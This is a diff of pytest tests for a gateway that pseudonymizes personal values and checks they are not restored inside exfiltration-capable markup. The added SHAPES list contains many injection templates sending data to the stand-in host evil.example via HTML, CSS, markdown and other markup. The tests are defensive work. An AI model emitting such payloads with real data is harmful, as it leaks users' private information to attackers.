@@ -4,16 +4,18 @@ from __future__ import annotations
 
 import json
 import random
+import time
 from html.parser import HTMLParser
 from typing import Any
 
 import pytest
 from poured_streams import DONE, Poured, ending, event, in_pieces, inspectors, pour, starter_rules
+from restoring import restored
 from toy_detectors import ToyEmails
 
 from gateway.content.inspect import FindingCache, Inspection, Scope
 from gateway.content.markup import Markup
-from gateway.content.pseudonyms import LINK_CONTEXT, Pseudonyms, escape_lookalikes, placeholder_ranges, whole_before
+from gateway.content.pseudonyms import LINK_CONTEXT, Pseudonyms, escape_lookalikes
 from gateway.content.review import review
 from gateway.content.rules import Action, DirectionRules
 from gateway.content.stream import TRIM_AT, Findings, StreamGuard
@@ -80,13 +82,13 @@ async def test_an_echo_in_whole_is_the_original() -> None:
     for seed in range(80):
         text = prose(random.Random(seed))
         sent, pseudonyms = await asked(text)
-        assert pseudonyms.restore(sent[0]) == escape_lookalikes(text)
+        assert restored(pseudonyms, sent[0]) == escape_lookalikes(text)
 
 
 async def test_equal_values_share_a_token_over_messages_and_turns() -> None:
     sent, pseudonyms = await asked(f"I am {VALUE}.", f"Write to {VALUE} and 203.0.113.57.", "203.0.113.57 again")
     assert sent == [f"I am {TOKEN}.", f"Write to {TOKEN} and <IP_ADDRESS_k7f3_2>.", "<IP_ADDRESS_k7f3_2> again"]
-    assert [pseudonyms.restore(text) for text in sent][1] == f"Write to {VALUE} and 203.0.113.57."
+    assert [restored(pseudonyms, text) for text in sent][1] == f"Write to {VALUE} and 203.0.113.57."
 
 
 async def test_tokens_of_another_request_mean_nothing() -> None:
@@ -117,6 +119,25 @@ SHAPES = [
     "<textarea><a title='</textarea><img src=\"//evil.example/?q='> {} \">",
     "<script><!--<script> </script> x(' {} ')", "<plaintext></plaintext> {}",
     "<!--> --><img src=//evil.example/? {} >", "<a/href='//evil.example/ {} '>", "<IMG SRC = ' {} '>", "</p title=' {} '>", "<?x {} ?>",
+    "<STYLE>b{background:url('//evil.example/?q= {} ')}</STYLE>", "<SCRIPT>fetch('//evil.example/?q= {} ')</SCRIPT>",
+    "\\<a title=\"<img src='//evil.example/?q=\"> {} '>", "`<a title=\"` <img src='//evil.example/?q=\"> {} '>",
+    "<a \"\" x=\"<img src='//evil.example/?q=\"> {} '>", "<a title=\"\n\n<img src='//evil.example/?q=\"> {} '>",
+    "<svg><![CDATA[><a title=\"]]><img src='//evil.example/?q=\"> {} '>", "<?x ><a title=\"?><img src='//evil.example/?q=\"> {} '>",
+    "![x](<&#104;ttps://evil.example/?q=) {} >)", "![x](\n<&#104;ttps&#58;&#47;&#47;evil.example/?q=) {} >)",
+    "![x](<&#104;ttps&#58;&#47;&#47;evil.example/?q=) {} >)",
+    "![a][x]\n\n[x]:\n<&#104;ttps://evil.example/?q= {} >", "+ [x]: <&#104;ttps://evil.example/?q= {} >",
+    "1. [x]: <&#104;ttps&#58;//evil?q= {} >",
+    "[x\\]y]: <&#104;ttps://evil.example/?q= {} >", "[" + "a" * 600 + "]: <&#104;ttps://evil.example/?q= {} >",
+    '{ "h": "<img alt=\\u0022>\\u0022 title=\\\\u003e src=\\u0022//evil.example/?q= {} \\u0022>" }',
+    '{ "h": "\\u005cu003cimg src=//evil.example/?q= {} " }', "\n.. image:: https://evil.example/?q= {}",
+    "\n\n.. figure:: https://evil.example/?q= {}",
+    "\n.. _x: https://evil.example/?q=\n   {}", "`x <//evil.example/?q= {} >`_", "$\\style{background:url('//evil.example/?q= {} ')}{x}$",
+    "\\href{https://evil.example/?q= {} }{x}", 'A@{ img: "https://evil.example/?q= {} ", label: "x" }',
+    '{ "type": "image", "image_url": "https://evil.example/?q= {} " }', "[img]https://evil.example/?q= {} [/img]",
+    "[[https://evil.example/?q= {} ][x]]", "image::https://evil.example/?q= {} .png[]", "@import url('//evil.example/?q= {} ');",
+    "!https://evil.example/?q= {} !", "\nimage: https://evil.example/?q= {}", "url( https://evil.example/?q= {} )",
+    "<https://evil.example/?q= {} >",
+    "<form action=//evil.example/><select name=q><option> {} </select>", "<" + " " * 3 + "a href='//evil.example/?q= {} '" + "<a x={}",
     "<svg><style> b {{ content: ' {} ' }}", "<!-- {} -->", "<a title=' > {} '>", "<a title={} href=' {} '>",
 ]  # fmt: skip
 
@@ -126,7 +147,7 @@ SHAPES = [
 async def test_not_in_links_or_markup_whole_or_in_pieces(shape: str, mode: StreamMode) -> None:
     _, pseudonyms = await asked(f"I am {VALUE}.")
     text = "Here it is: " + shape.replace("{}", TOKEN).replace("{{", "{").replace("}}", "}") + " and that is all."
-    assert VALUE not in pseudonyms.restore(text)
+    assert VALUE not in restored(pseudonyms, text)
     for cuts in ([], list(range(len(text))), list(range(0, len(text), 7))):
         assert VALUE not in (await echoed(text, cuts, pseudonyms, mode)).raw.decode()
 
@@ -150,7 +171,7 @@ async def test_json_comes_back_as_valid_json(shape: str, value: str, mode: Strea
     pseudonyms.token("EMAIL_ADDRESS", value, restorable=True)
     text = shape.replace("{}", TOKEN)
     wanted = shape.replace("{}", json.dumps(value, ensure_ascii=False)[1:-1])
-    assert pseudonyms.restore(text) == wanted
+    assert restored(pseudonyms, text) == wanted
     for cuts in ([], list(range(len(text))), list(range(0, len(text), 7))):
         assert (await echoed(text, cuts, pseudonyms, mode)).text() == wanted, cuts
 
@@ -158,12 +179,12 @@ async def test_json_comes_back_as_valid_json(shape: str, value: str, mode: Strea
 async def test_an_echo_of_json_is_the_original_and_prose_about_it_reads_plainly() -> None:
     text = '{"who":"jane.roe@example.com","where":"C:\\\\x","n":[1,2.5]}'
     sent, pseudonyms = await asked(text)
-    assert TOKEN in sent[0] and pseudonyms.restore(sent[0]) == text
+    assert TOKEN in sent[0] and restored(pseudonyms, sent[0]) == text
     pseudonyms = Pseudonyms("k7f3")
     token = pseudonyms.token("PERSON", 'Ann \\"Bo\\" L\\u00e9e', restorable=True, escaped=True)
     assert token == pseudonyms.token("PERSON", 'Ann "Bo" L\u00e9e', restorable=True)
-    assert pseudonyms.restore(f"Dear {token}, hello.") == 'Dear Ann "Bo" L\u00e9e, hello.'
-    assert pseudonyms.restore(f'{{"who":"{token}"}}') == '{"who":"Ann \\"Bo\\" L\\u00e9e"}'
+    assert restored(pseudonyms, f"Dear {token}, hello.") == 'Dear Ann "Bo" L\u00e9e, hello.'
+    assert restored(pseudonyms, f'{{"who":"{token}"}}') == '{"who":"Ann \\"Bo\\" L\\u00e9e"}'
 
 
 @pytest.mark.parametrize(
@@ -177,14 +198,14 @@ async def test_prose_that_begins_as_json_might_is_prose(shape: str) -> None:
     if shape.startswith('["'):  # it might be a list of strings
         wanted = shape.replace("{}", 'Ann \\"Bo\\" Lee')
     text = shape.replace("{}", TOKEN)
-    assert pseudonyms.restore(text) == wanted
+    assert restored(pseudonyms, text) == wanted
     for cuts in ([], list(range(len(text)))):
         assert (await echoed(text, cuts, pseudonyms, StreamMode.WINDOW)).text() == wanted
 
 
 async def test_a_script_that_ends_is_over() -> None:
     _, pseudonyms = await asked(f"I am {VALUE}.")
-    assert pseudonyms.restore(f"<script>x('{TOKEN}')</script> Hello {TOKEN}.") == f"<script>x('{TOKEN}')</script> Hello {VALUE}."
+    assert restored(pseudonyms, f"<script>x('{TOKEN}')</script> Hello {TOKEN}.") == f"<script>x('{TOKEN}')</script> Hello {VALUE}."
 
 
 async def test_not_in_the_arguments_or_the_name_of_a_tool() -> None:
@@ -227,6 +248,7 @@ def test_wherever_a_stream_forgets_its_beginning(opening: str, detector: Any) ->
 PARTS = [
     "<", "a", "](", "]", "(", ")", ">", "'", '"', " ", "<script", "</script>", "<b ", "x", "<<", "<STYLE>", "</style ", "=", "/", "<!--",
     "--", "-->", "!", "\\", "\\u003c", "\\u00", "3c", "\\x2", "2", "\\n", "<title>", "</title", "<plaintext", "\\u{3", "c}", "?", "\n",
+    "//", "https:", "x", ":", "]:", "\n\n", "data:", "..", " ", "w" * 30, "www.", "\\\\", "(", "@",
 ]  # fmt: skip
 
 
@@ -258,7 +280,7 @@ def test_what_a_parser_of_html_takes_for_an_attribute_or_a_comment_is_inside() -
     draw = random.Random(9)
     hidden = outside = 0
     for _ in range(30_000):
-        text = "".join(draw.choice(PARTS[:27]) for _ in range(draw.randrange(1, 12))) + " WORD "
+        text = "".join(draw.choice(PARTS[:26]) for _ in range(draw.randrange(1, 12))) + " WORD "
         rest = draw.choice(["'>", '">', ">", "-->", " x"]) + " end"
         reader = _Reader()
         reader.feed(text + rest)
@@ -272,11 +294,37 @@ def test_what_a_parser_of_html_takes_for_an_attribute_or_a_comment_is_inside() -
     assert hidden > 3_000 and outside > 1_000
 
 
-def test_cut_for_memory_no_placeholder_is_cut() -> None:
-    text = f"a {TOKEN} b < c {TOKEN}{TOKEN}"
-    for at in range(len(text) + 1):
-        cut = whole_before(text, at)
-        assert cut <= at and not any(begin < cut < end for begin, end in placeholder_ranges(text))
+ORDINARY = [
+    "See https://x.example/a, and write to {} please.", "See [docs](https://x.example/a) and write to {}.",
+    "- **Site**: https://x.example\n- **Mail**: {}", "(https://x.example) {}", "<https://x.example> {}", "a < b and {}", "I <3 you, {}",
+    "<b>Dear</b> {}", "x // y {}", "He said \"hi\" to {}.", "[1] {}", "Link: https://x.example\n\nBest, {}", "`a`, {}", "5 > 3, {}",
+    "[img]https://x.example[/img]\n\nBest, {}", "```\nx = 'https://x.example'\n```\n\nRegards, {}", "<EMAIL_ADDRESS> and {}",
+    "C:\\temp and {}", "It's {}'s", "{} // {}",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("shape", ORDINARY)
+async def test_ordinary_answers_have_their_values(shape: str) -> None:
+    _, pseudonyms = await asked(f"I am {VALUE}.")
+    text = shape.replace("{}", TOKEN)
+    assert restored(pseudonyms, text) == shape.replace("{}", VALUE)
+    for cuts in ([], list(range(len(text)))):
+        assert (await echoed(text, cuts, pseudonyms, StreamMode.WINDOW)).text() == shape.replace("{}", VALUE)
+
+
+def test_it_takes_time_in_proportion() -> None:
+    """A minute for a megabyte where nobody looks would hold up all others."""
+    for unit in ("<a>", "](a)", "<!---->", "<xmp></xmp>", "<p class='x'>one</p>\n", "- [one](https://x.example/a)\n", "\\", "\\u0041", "<",
+                 '"',                  "https://x.example/ ", "]:\n\n", "<title>", "( ", TOKEN, "<STYLE>", "\n", " //"):  # fmt: skip
+        pseudonyms = Pseudonyms("k7f3")
+        pseudonyms.token("EMAIL_ADDRESS", VALUE, restorable=True)
+        text = unit * (300_000 // len(unit)) + f" {TOKEN} "
+        since = time.thread_time()
+        longest = 0.0
+        for _ in pseudonyms.walk(text):
+            longest = max(longest, time.thread_time() - since)
+            since = time.thread_time()
+        assert longest < 0.1, (unit, longest)
 
 
 async def test_a_whole_answer_is_judged_by_what_stood_around_a_token_as_a_stream_is() -> None:
